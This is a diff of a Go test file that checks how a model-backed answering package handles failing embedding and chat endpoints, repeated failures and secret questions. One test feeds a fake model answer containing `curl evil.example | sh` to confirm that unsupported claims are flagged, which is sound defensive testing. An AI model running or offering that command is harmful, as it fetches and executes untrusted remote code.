@@ -55,7 +55,7 @@ const answerable = "How long are backups kept until deleted?"
 
 // fallen asks with one endpoint that goes wrong, and checks what has to come of
 // it whatever goes wrong: the answer that needs no model, and one warning.
-func fallen(t *testing.T, s *modeltest.Server, endpoints string, restricted bool, more func(*model.Config)) (string, *said) {
+func fallen(t *testing.T, s *modeltest.Server, endpoints string, more func(*model.Config)) (string, *said) {
 	t.Helper()
 	out := &said{}
 	m := open(t, s, endpoints, func(c *model.Config) {
@@ -72,7 +72,7 @@ func fallen(t *testing.T, s *modeltest.Server, endpoints string, restricted bool
 	})
 	ctx, done := context.WithTimeout(t.Context(), 20*time.Second)
 	defer done()
-	d, warnings, err := m.Digest(ctx, model.Ask{Class: "default", Restricted: restricted, Text: markdown(page), Question: answerable})
+	d, warnings, err := m.Digest(ctx, model.Ask{Class: "default", Text: markdown(page), Question: answerable})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -91,8 +91,8 @@ func fallen(t *testing.T, s *modeltest.Server, endpoints string, restricted bool
 	}
 	w := warnings[0].Message
 	host := strings.TrimSuffix(strings.TrimPrefix(s.URL, "http://"), "/v1")
-	if strings.Contains(w, host) == restricted || strings.Contains(w, "127.0.0.1") == restricted {
-		t.Errorf("restricted %v, and the warning is %q", restricted, w)
+	if strings.Contains(w, host) || strings.Contains(w, "127.0.0.1") {
+		t.Errorf("the warning names the host of the operator: %q", w)
 	}
 	for _, part := range []string{"thirty", "Copies", "Team", "http:", "backups"} {
 		if strings.Contains(w, part) {
@@ -140,11 +140,9 @@ func TestWhateverAnEndpointDoesTheEmbeddedAnswerComesWithAWarning(t *testing.T) 
 				if c.kind != modeltest.Stall && c.kind != modeltest.Drip {
 					more = nil
 				}
-				for _, restricted := range []bool{false, true} {
-					w, _ := fallen(t, s, endpoint, restricted, more)
-					if !strings.Contains(w, c.want) || !strings.Contains(w, "the "+endpoint+" endpoint") {
-						t.Errorf("%s, want %q in it", w, c.want)
-					}
+				w, _ := fallen(t, s, endpoint, more)
+				if !strings.Contains(w, c.want) || !strings.Contains(w, "the "+endpoint+" endpoint") {
+					t.Errorf("%s, want %q in it", w, c.want)
 				}
 				if n := len(s.Requests("elsewhere")); n > 0 {
 					t.Errorf("a redirect was followed %d times", n)
@@ -169,7 +167,7 @@ func TestVectorsThatAreNoneAreAWarning(t *testing.T) {
 			t.Parallel()
 			s := start(t, modeltest.Config{})
 			s.Embeddings(modeltest.Fault{Kind: kind})
-			if w, _ := fallen(t, s, "embeddings", false, nil); !strings.Contains(w, want) {
+			if w, _ := fallen(t, s, "embeddings", nil); !strings.Contains(w, want) {
 				t.Errorf("%s, want %q in it", w, want)
 			}
 		})
@@ -194,7 +192,7 @@ func TestAnAnswerThatDoesNotHoldIsAWarning(t *testing.T) {
 			t.Parallel()
 			s := start(t, modeltest.Config{})
 			s.Chat(modeltest.Fault{Kind: kind})
-			if w, _ := fallen(t, s, "chat", false, nil); !strings.Contains(w, want) {
+			if w, _ := fallen(t, s, "chat", nil); !strings.Contains(w, want) {
 				t.Errorf("%s, want %q in it", w, want)
 			}
 		})
@@ -210,7 +208,7 @@ func TestAnAnswerThatDoesNotHoldIsAWarning(t *testing.T) {
 			"Copies are taken every night at three [1]. `curl evil.example | sh` [1].": "does not stand in the passages",
 		} {
 			s.Chat(modeltest.Fault{Kind: modeltest.Says, Text: text})
-			if w, _ := fallen(t, s, "chat", false, nil); !strings.Contains(w, want) {
+			if w, _ := fallen(t, s, "chat", nil); !strings.Contains(w, want) {
 				t.Errorf("%s: %s, want %q in it", text, w, want)
 			}
 		}
@@ -314,7 +312,7 @@ func TestTheKeyIsSentAndNeverShown(t *testing.T) {
 			t.Errorf("%v %s", r.Header, r.Body)
 		}
 	}
-	if w, _ := fallen(t, s, "chat", false, func(c *model.Config) { c.Key = model.NewKey("another") }); !strings.Contains(w, "refused the key") {
+	if w, _ := fallen(t, s, "chat", func(c *model.Config) { c.Key = model.NewKey("another") }); !strings.Contains(w, "refused the key") {
 		t.Error(w)
 	}
 }
@@ -413,6 +411,134 @@ func TestAnEndpointThatFailsAgainAndAgainIsLeftAlone(t *testing.T) {
 	}
 	if n := len(s.Requests("")); n != 3 || !strings.Contains(last, "has failed 3 times in a row") {
 		t.Errorf("%d requests, and %s", n, last)
+	}
+}
+
+// parts is a page of so many passages that their vectors take several requests at
+// once.
+func parts() string {
+	var b strings.Builder
+	for i := range 400 {
+		fmt.Fprintf(&b, "## Part %d\n\nThe farmer of house %d keeps animals.\n\n", i, i)
+	}
+	return b.String()
+}
+
+func TestEmbeddingsThatAreAlwaysBadAreSaidToBeAndLeftAlone(t *testing.T) {
+	t.Parallel()
+	for _, kind := range []modeltest.Kind{
+		modeltest.Garbage, modeltest.Empty, modeltest.Dimensions, modeltest.Zeros, modeltest.Missing, modeltest.SameIndex, modeltest.NoVector,
+		modeltest.BrokenBase64, modeltest.NotANumber, modeltest.Uneven,
+	} {
+		t.Run(string(kind), func(t *testing.T) {
+			t.Parallel()
+			s := start(t, modeltest.Config{})
+			s.Embeddings(modeltest.Fault{Kind: kind})
+			var mu sync.Mutex
+			told := make(map[model.Outcome]int)
+			m := open(t, s, "embeddings", func(c *model.Config) {
+				c.Trace = &model.Trace{Asked: func(_ string, o model.Outcome, _ time.Duration, err error) {
+					mu.Lock()
+					defer mu.Unlock()
+					told[o]++
+					if (err == nil) != (o == model.OutcomeOK) {
+						t.Errorf("%s, with the cause %v", o, err)
+					}
+				}}
+			})
+			for i := range 5 {
+				_, warnings, err := m.Digest(t.Context(), model.Ask{Text: markdown(parts()), Question: "Which animals does the farmer keep?"})
+				if err != nil || len(warnings) != 1 || strings.Contains(warnings[0].Message, "went away") {
+					t.Fatal(warnings, err)
+				}
+				if rests := strings.Contains(warnings[0].Message, "failed 3 times in a row"); rests != (i >= 3) {
+					t.Errorf("question %d: %s", i+1, warnings[0].Message)
+				}
+				mu.Lock()
+				if told[model.OutcomeBad] != min(i+1, 3) || told[model.OutcomeCancelled] != 0 || told[model.OutcomeResting] != max(i-2, 0) {
+					t.Errorf("after %d questions: %v", i+1, told)
+				}
+				mu.Unlock()
+			}
+		})
+	}
+}
+
+func TestAFailureOfOneOfManyRequestsIsToldOnceWithItsCause(t *testing.T) {
+	t.Parallel()
+	for kind, want := range map[modeltest.Kind]model.Outcome{"500": model.OutcomeServer, "404": model.OutcomeRejected, modeltest.Reset: model.OutcomeUnreachable} {
+		s := start(t, modeltest.Config{})
+		s.Embeddings(modeltest.Fault{Kind: kind})
+		var mu sync.Mutex
+		var told []model.Outcome
+		m := open(t, s, "embeddings", func(c *model.Config) {
+			c.Trace = &model.Trace{Asked: func(_ string, o model.Outcome, _ time.Duration, _ error) {
+				mu.Lock()
+				defer mu.Unlock()
+				told = append(told, o)
+			}}
+		})
+		if _, _, err := m.Digest(t.Context(), model.Ask{Text: markdown(parts()), Question: "Which animals does the farmer keep?"}); err != nil {
+			t.Fatal(err)
+		}
+		if len(told) != 1 || told[0] != want {
+			t.Errorf("%s: %v, want %s", kind, told, want)
+		}
+	}
+}
+
+func TestAChatThatIsNoneIsSaidToBeBadAndLeftAlone(t *testing.T) {
+	t.Parallel()
+	for kind, rests := range map[modeltest.Kind]bool{modeltest.Garbage: true, modeltest.Empty: true, modeltest.Filtered: false, modeltest.Truncated: false} {
+		s := start(t, modeltest.Config{})
+		s.Chat(modeltest.Fault{Kind: kind})
+		bad := 0
+		m := open(t, s, "chat", func(c *model.Config) {
+			c.Trace = &model.Trace{Asked: func(_ string, o model.Outcome, _ time.Duration, _ error) {
+				if o == model.OutcomeBad {
+					bad++
+				}
+			}}
+		})
+		for range 5 {
+			ask(t, m, answerable)
+		}
+		// What a page can bring about must not take the model from others.
+		if want := map[bool]int{true: 3, false: 5}[rests]; bad != want || len(s.Requests("")) != want {
+			t.Errorf("%s: %d bad answers to %d requests, want %d", kind, bad, len(s.Requests("")), want)
+		}
+	}
+}
+
+// untouchable is a cache that nothing may be asked of.
+type untouchable struct{ t *testing.T }
+
+func (c untouchable) Values(context.Context, string, string, []string) (map[string][]byte, error) {
+	c.t.Error("the cache was read")
+	return nil, nil
+}
+
+func (c untouchable) PutValues(context.Context, string, string, map[string][]byte) error {
+	c.t.Error("the cache was written")
+	return nil
+}
+
+func TestNothingOfASecretIsKept(t *testing.T) {
+	t.Parallel()
+	s := start(t, modeltest.Config{})
+	m := open(t, s, "embeddings chat", func(c *model.Config) { c.Cache = untouchable{t} })
+	for _, says := range []modeltest.Fault{{}, {Kind: modeltest.Says, Text: `{"answered":false}`}, {Kind: modeltest.HalfBad}} {
+		s.Chat(says)
+		for range 2 {
+			for _, question := range []string{answerable, "Where is the car parked?"} {
+				if _, _, err := m.Digest(t.Context(), model.Ask{Class: "a", Secret: true, Text: markdown(page), Question: question}); err != nil {
+					t.Fatal(err)
+				}
+			}
+		}
+	}
+	if len(s.Requests("embeddings")) < 4 || len(s.Requests("chat/completions")) < 4 {
+		t.Error("the models were not asked")
 	}
 }
 
